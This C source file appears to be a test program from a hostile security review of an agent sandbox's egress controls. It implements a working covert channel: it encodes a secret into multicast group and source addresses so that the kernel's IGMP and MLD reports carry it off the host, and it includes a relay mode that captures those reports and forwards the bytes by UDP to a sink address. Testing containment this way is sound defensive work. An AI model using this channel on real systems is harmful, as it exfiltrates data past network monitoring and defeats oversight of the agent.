/* mcast-join: the agent's bytes in multicast memberships (hostile review
 * h-attack38's ha38-mcast.c). Joining a multicast group is a setsockopt,
 * not a send: no name is judged and no capability is needed. But the
 * kernel announces every membership change on the link: an IGMPv3 report
 * to 224.0.0.22 (or v2 to the group) holding the group address and, for
 * source-specific joins, each source address; an MLDv2 report to ff02::16
 * holding the 128-bit group and 128-bit sources. Every host on the link (a
 * switch floods them; snooping switches send them to the routers) gets
 * those addresses, which the agent chose: its data, at a destination no
 * rule names.
 *
 *   mcast-join MODE IFNAME [SECRET]
 *     send      sendto 198.51.100.7:9999 (the declared address: control)
 *     group     IP_ADD_MEMBERSHIP of 239.b0.b1.b2 for each 3 bytes
 *     source    IP_ADD_SOURCE_MEMBERSHIP on 232.1.1.1, a source per 4 bytes
 *     msfilter  IP_MSFILTER on 232.1.1.2, one call, up to 10 sources (40 bytes)
 *     mld       IPV6_ADD_MEMBERSHIP of ff0e:: + 14 bytes per join
 *     mldfilter MCAST_MSFILTER on ff3e::1, one call, up to 64 v6 sources
 *     relay     (a root service in a guest cell, IFNAME lo, SECRET DEST:PORT)
 *               stands for another host on the link: it captures the IGMP
 *               and MLD reports on IFNAME (AF_PACKET) and sends the group
 *               and source addresses of each record whose group is in
 *               239/8, 232/8, ff0e::/16 or ff3e::/16 (the ones the modes
 *               above use; nothing the kernel joins by itself) as one UDP
 *               datagram to DEST:PORT, where the cell's sink is
 *
 * IFNAME is the link the joins name (the interface index: no route needed).
 * Prints each call's result; holds the memberships for two seconds so that
 * the reports (and their retransmissions) go out, then exits 0. */
#include "agentlib.h" /* only for its main (agentlib.h): this agent logs its own way */

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stddef.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void show(const char *what, int rc)
{
	printf("mcast-join: %s -> %d%s%s\n", what, rc, rc < 0 ? " " : "",
	       rc < 0 ? strerror(errno) : "");
	fflush(stdout);
}

/* The printable text of N address bytes ('.' for the rest). */
static size_t printable(char *out, const unsigned char *a, size_t n)
{
	for (size_t i = 0; i < n; i++)
		out[i] = a[i] >= 32 && a[i] < 127 ? (char)a[i] : '.';
	return n;
}

/* One IGMPv3 (REPORT 0x22) or MLDv2 (ICMPv6 143) report at P (LEN bytes):
 * each record of an agent group, its group and sources as text, to OUT. */
static void relay_report(int out, const struct sockaddr_in *to, const unsigned char *p, size_t len,
			 int v6)
{
	size_t alen = v6 ? 16 : 4, o = 8;
	unsigned nrec = len >= 8 ? (unsigned)(p[6] << 8 | p[7]) : 0;

	for (unsigned r = 0; r < nrec && o + 4 + alen <= len; r++) {
		unsigned aux = p[o + 1], ns = (unsigned)(p[o + 2] << 8 | p[o + 3]);
		const unsigned char *g = p + o + 4;
		size_t end = o + 4 + alen * (1 + ns) + 4 * aux;
		int ours = v6 ? g[0] == 0xff && (g[1] == 0x0e || g[1] == 0x3e)
			      : g[0] == 239 || g[0] == 232;
		if (end > len)
			break;
		if (ours) {
			char msg[2048];
			size_t m = (size_t)snprintf(
			    msg, sizeof(msg),
			    "%s record type %u, group+sources: ", v6 ? "MLDv2" : "IGMPv3", p[o]);
			for (unsigned i = 0; i <= ns && m + alen + 1 < sizeof(msg); i++) {
				m += printable(msg + m, g + alen * i, alen);
				msg[m++] = '|';
			}
			sendto(out, msg, m, 0, (const struct sockaddr *)to, sizeof(*to));
			printf("relayed: %.*s\n", (int)m, msg);
			fflush(stdout);
		}
		o = end;
	}
}

static int relay_main(const char *ifname, const char *dest)
{
	struct sockaddr_in to = {.sin_family = AF_INET}, self = {.sin_family = AF_INET};
	char host[64];
	const char *colon = strrchr(dest, ':');
	int out = socket(AF_INET, SOCK_DGRAM, 0);
	int cap = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	struct sockaddr_ll ll = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(ETH_P_ALL),
				 .sll_ifindex = (int)if_nametoindex(ifname)};

	if (!colon || (size_t)(colon - dest) >= sizeof(host) || out < 0 || cap < 0) {
		perror("mcast-join relay");
		return 2;
	}
	memcpy(host, dest, (size_t)(colon - dest));
	host[colon - dest] = 0;
	inet_pton(AF_INET, host, &to.sin_addr);
	to.sin_port = htons((unsigned short)atoi(colon + 1));
	/* A bound UDP socket: the guest's sign that the service is ready. */
	inet_pton(AF_INET, "127.0.0.1", &self.sin_addr);
	self.sin_port = htons(9938);
	if (bind(out, (struct sockaddr *)&self, sizeof(self)) ||
	    bind(cap, (struct sockaddr *)&ll, sizeof(ll))) {
		perror("mcast-join relay: bind");
		return 2;
	}
	for (;;) {
		unsigned char f[65536];
		ssize_t n = recv(cap, f, sizeof(f), 0);
		if (n < 14 + 40)
			continue;
		const unsigned char *ip = f + 14;
		size_t len = (size_t)n - 14;
		int et = f[12] << 8 | f[13];
		if (et == ETH_P_IP && ip[9] == IPPROTO_IGMP) {
			size_t ihl = (size_t)(ip[0] & 15) * 4;
			if (ihl < len && ip[ihl] == 0x22)
				relay_report(out, &to, ip + ihl, len - ihl, 0);
		} else if (et == ETH_P_IPV6) {
			size_t o = 40;
			unsigned nh = ip[6];
			if (nh == 0 && o + 2 <= len) {
				nh = ip[o];
				o += ((size_t)ip[o + 1] + 1) * 8;
			}
			if (nh == IPPROTO_ICMPV6 && o < len && ip[o] == 143)
				relay_report(out, &to, ip + o, len - o, 1);
		}
	}
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: mcast-join MODE IFNAME [SECRET]\n");
		return 2;
	}
	if (!strcmp(argv[1], "relay"))
		return relay_main(argv[2], argc > 3 ? argv[3] : "203.0.113.7:9999");
	const char *mode = argv[1];
	const char *secret = argc > 3 ? argv[3] : "agent-secret-mcast";
	size_t n = strlen(secret);
	unsigned ifi = if_nametoindex(argv[2]);
	char what[160];

	if (!ifi) {
		perror("if_nametoindex");
		return 2;
	}
	if (!strcmp(mode, "send")) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9999)};
		inet_pton(AF_INET, "198.51.100.7", &a.sin_addr);
		show("sendto 198.51.100.7:9999",
		     (int)sendto(s, secret, n, 0, (struct sockaddr *)&a, sizeof(a)));
	} else if (!strcmp(mode, "group")) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		for (size_t i = 0; i < n; i += 3) {
			unsigned char b[3] = {0, 0, 0};
			memcpy(b, secret + i, n - i < 3 ? n - i : 3);
			struct ip_mreqn m = {.imr_ifindex = (int)ifi};
			m.imr_multiaddr.s_addr = htonl(0xef000000u | b[0] << 16 | b[1] << 8 | b[2]);
			snprintf(what, sizeof(what), "IP_ADD_MEMBERSHIP %s on %s",
				 inet_ntoa(m.imr_multiaddr), argv[2]);
			show(what, setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m)));
		}
	} else if (!strcmp(mode, "source")) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		for (size_t i = 0; i < n; i += 4) {
			uint32_t v = 0;
			memcpy(&v, secret + i, n - i < 4 ? n - i : 4);
			struct group_source_req r = {.gsr_interface = ifi};
			struct sockaddr_in *g = (struct sockaddr_in *)&r.gsr_group;
			struct sockaddr_in *src = (struct sockaddr_in *)&r.gsr_source;
			g->sin_family = src->sin_family = AF_INET;
			inet_pton(AF_INET, "232.1.1.1", &g->sin_addr);
			src->sin_addr.s_addr = v;
			snprintf(what, sizeof(what), "MCAST_JOIN_SOURCE_GROUP 232.1.1.1 source %s",
				 inet_ntoa(src->sin_addr));
			show(what,
			     setsockopt(s, IPPROTO_IP, MCAST_JOIN_SOURCE_GROUP, &r, sizeof(r)));
		}
	} else if (!strcmp(mode, "msfilter")) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		unsigned cnt = (unsigned)((n + 3) / 4);
		if (cnt > 10)
			cnt = 10; /* net.ipv4.igmp_max_msf */
		/* IP_MSFILTER_SIZE(cnt): the header and cnt addresses. */
		size_t len =
		    offsetof(struct ip_msfilter, imsf_slist) + cnt * sizeof(struct in_addr);
		struct ip_msfilter *f = calloc(1, len + 64);
		/* A join on the interface first: IP_MSFILTER changes a membership. */
		struct ip_mreqn m = {.imr_ifindex = (int)ifi};
		inet_pton(AF_INET, "232.1.1.2", &m.imr_multiaddr);
		show("IP_ADD_MEMBERSHIP 232.1.1.2",
		     setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m)));
		struct in_addr local;
		inet_pton(AF_INET, argc > 4 ? argv[4] : "203.0.113.1", &local);
		f->imsf_multiaddr = m.imr_multiaddr;
		f->imsf_interface = local;
		f->imsf_fmode = MCAST_INCLUDE;
		f->imsf_numsrc = cnt;
		for (unsigned i = 0; i < cnt; i++)
			memcpy(&f->imsf_slist[i], secret + 4 * i, n - 4 * i < 4 ? n - 4 * i : 4);
		snprintf(what, sizeof(what), "IP_MSFILTER 232.1.1.2 INCLUDE %u sources", cnt);
		show(what, setsockopt(s, IPPROTO_IP, IP_MSFILTER, f, (socklen_t)len));
	} else if (!strcmp(mode, "mld")) {
		int s = socket(AF_INET6, SOCK_DGRAM, 0);
		for (size_t i = 0; i < n; i += 14) {
			struct ipv6_mreq m = {.ipv6mr_interface = ifi};
			m.ipv6mr_multiaddr.s6_addr[0] = 0xff;
			m.ipv6mr_multiaddr.s6_addr[1] = 0x0e;
			memcpy(m.ipv6mr_multiaddr.s6_addr + 2, secret + i, n - i < 14 ? n - i : 14);
			char g[64];
			inet_ntop(AF_INET6, &m.ipv6mr_multiaddr, g, sizeof(g));
			snprintf(what, sizeof(what), "IPV6_ADD_MEMBERSHIP %s on %s", g, argv[2]);
			show(what, setsockopt(s, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &m, sizeof(m)));
		}
	} else if (!strcmp(mode, "mldfilter")) {
		int s = socket(AF_INET6, SOCK_DGRAM, 0);
		unsigned cnt = (unsigned)((n + 15) / 16);
		if (cnt > 64)
			cnt = 64; /* net.ipv6.mld_max_msf */
		struct ipv6_mreq m = {.ipv6mr_interface = ifi};
		inet_pton(AF_INET6, "ff3e::1", &m.ipv6mr_multiaddr);
		show("IPV6_ADD_MEMBERSHIP ff3e::1",
		     setsockopt(s, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &m, sizeof(m)));
		size_t len = sizeof(struct group_filter) + cnt * sizeof(struct sockaddr_storage);
		struct group_filter *f = calloc(1, len);
		f->gf_interface = ifi;
		struct sockaddr_in6 *g = (struct sockaddr_in6 *)&f->gf_group;
		g->sin6_family = AF_INET6;
		g->sin6_addr = m.ipv6mr_multiaddr;
		f->gf_fmode = MCAST_INCLUDE;
		f->gf_numsrc = cnt;
		for (unsigned i = 0; i < cnt; i++) {
			struct sockaddr_in6 *src = (struct sockaddr_in6 *)&f->gf_slist[i];
			src->sin6_family = AF_INET6;
			size_t off = 16 * (size_t)i;
			memcpy(&src->sin6_addr, secret + off, n - off < 16 ? n - off : 16);
		}
		snprintf(what, sizeof(what), "MCAST_MSFILTER ff3e::1 INCLUDE %u sources", cnt);
		show(what, setsockopt(s, IPPROTO_IPV6, MCAST_MSFILTER, f, (socklen_t)len));
	} else {
		fprintf(stderr, "mcast-join: unknown mode %s\n", mode);
		return 2;
	}
	sleep(2);
	return 0;
}
